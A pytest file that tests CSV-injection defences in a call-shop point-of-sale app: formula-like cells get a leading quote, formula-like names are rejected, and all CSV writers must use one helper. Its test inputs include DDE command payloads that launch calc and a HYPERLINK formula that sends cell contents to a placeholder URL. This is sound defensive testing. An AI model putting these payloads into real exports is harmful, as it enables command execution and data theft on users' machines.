"""CSV injection: every CSV we write is neutralised by one helper; names that start like
a formula are refused at the edges."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

from callshop_pos.errors import InvalidInput
from callshop_pos.textsafe import check_name, csv_writer, looks_like_formula, safe_cell

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+2", "'=1+2"),
        ('=HYPERLINK("http://x/?"&A1,"click")', '\'=HYPERLINK("http://x/?"&A1,"click")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("+359 88 8x", "'+359 88 8x"),
        ("+1-202-555-0100", "'+1-202-555-0100"),
        # plain numbers stay numbers: amounts and telephone numbers as dialled
        ("-0.05", "-0.05"),
        ("-12,50", "-12,50"),
        ("+359888123456", "+359888123456"),
        ("+44 20 7946 0000", "+44 20 7946 0000"),
        ("0049 30 1234", "0049 30 1234"),
        ("Bulgaria", "Bulgaria"),
        ("a=b", "a=b"),
        ("'=x", "'=x"),
        ("", ""),
        (None, ""),
        (12, "12"),
        (-5, "-5"),
        (Decimal("-0.000001"), "-0.000001"),
    ],
)
def test_cells_are_neutralised_the_owasp_way(cell: object, written: str) -> None:
    assert safe_cell(cell) == written


def test_the_writer_quotes_and_neutralises() -> None:
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["=1+2", 'say "hi"', None, -5])
    writer.writerows([["@x", "a,b"]])
    assert out.getvalue() == '\'=1+2,"say ""hi""",,-5\n\'@x,"a,b"\n'
    assert next(csv.reader(io.StringIO(out.getvalue())))[0] == "'=1+2"


@pytest.mark.parametrize("name", ["=evil", "+evil", "-evil", "@evil", "\tevil", "=1+1"])
def test_formula_like_names_are_refused(name: str) -> None:
    with pytest.raises(InvalidInput, match=r"formula|control characters"):
        check_name(name, "a booth name", max_length=32, strip=False)


def test_names_have_bounds_and_no_control_characters() -> None:
    assert check_name("  Booth 1 ", "a booth name", max_length=32) == "Booth 1"
    assert check_name("Кабина-1 (ъгъл)", "a booth name", max_length=32) == "Кабина-1 (ъгъл)"
    with pytest.raises(InvalidInput, match="1 to 32 characters"):
        check_name("x" * 33, "a booth name", max_length=32)
    with pytest.raises(InvalidInput, match="1 to 32 characters"):
        check_name("   ", "a booth name", max_length=32)
    with pytest.raises(InvalidInput, match="control characters"):
        check_name("a\x1b[31mb", "a booth name", max_length=32)
    with pytest.raises(InvalidInput, match="must be text"):
        check_name(5, "a booth name", max_length=32)
    assert not looks_like_formula("-5") and looks_like_formula("-x")


def test_every_csv_writer_of_the_application_goes_through_the_helper() -> None:
    """One helper for every CSV written: a new ``csv.writer`` elsewhere fails here."""
    offenders = []
    pattern = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    for package in ("callshop_pos", "drivers", "ui", "bench", "tools"):
        for path in (ROOT / package).rglob("*.py"):
            if path.name == "textsafe.py" and path.parent.name == "callshop_pos":
                continue
            if pattern.search(path.read_text(encoding="utf-8")):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


def test_rate_output_neutralises_the_number_column() -> None:
    from callshop_pos.cli.rate import read_calls, write_ratings
    from callshop_pos.rating import NumberPlan, PriceIndex, Rater, parse_price_list

    calls = read_calls(
        "number,answered_at,duration\n"
        "=1+2,2026-01-05T10:00:00,60\n"
        "+359888123456,2026-01-05T10:00:00,60\n"
    )
    index = PriceIndex(parse_price_list("country,code,wholesale_usd,retail\nBG,359,0.01,0.1\n"))
    from zoneinfo import ZoneInfo

    rater = Rater(index, NumberPlan("359", "0", ("00", "+")), None, ZoneInfo("UTC"))
    text = write_ratings(calls, [rater.rate(c.number, c.answered_at, c.duration) for c in calls])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][0] == "'=1+2"
    assert rows[2][0] == "+359888123456"  # a plain number is written as dialled


def test_price_list_export_neutralises_an_old_formula_like_country() -> None:
    from callshop_pos.rating.pricelist import entries_from_lines, write_price_list

    # As stored before names were checked (loading a stored version checks nothing).
    legacy = list(entries_from_lines(['49\t=HYPERLINK("x")\t0.01\t0.2\t\t60\t60\t0\t0']))
    assert legacy[0].country == '=HYPERLINK("x")'
    text = write_price_list(legacy)
    assert list(csv.reader(io.StringIO(text)))[1][0] == '\'=HYPERLINK("x")'


def test_report_csv_neutralises_group_keys() -> None:
    from callshop_pos.services.reports.export import report_csv
    from callshop_pos.services.reports.period import GroupBy, PeriodReport, ReportRow

    row = ReportRow("=cmd|' /C calc'!A0", calls=1, revenue_minor=-5)
    report = PeriodReport(
        date(2026, 1, 1), date(2026, 1, 31), next(iter(GroupBy)), (row,), ReportRow("total")
    )
    rows = list(csv.reader(io.StringIO(report_csv(report))))
    assert rows[1][0] == "'=cmd|' /C calc'!A0"
    assert "-0.05" in rows[1]  # a negative amount stays a number


def test_shift_csv_neutralises_cells() -> None:
    from callshop_pos.cli.shifts import _csv

    text = _csv(("booth", "number", "price"), [("@booth", "+359888", "-0.10"), (None, "x", 1)])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["'@booth", "+359888", "-0.10"]
    assert rows[2] == ["", "x", "1"]
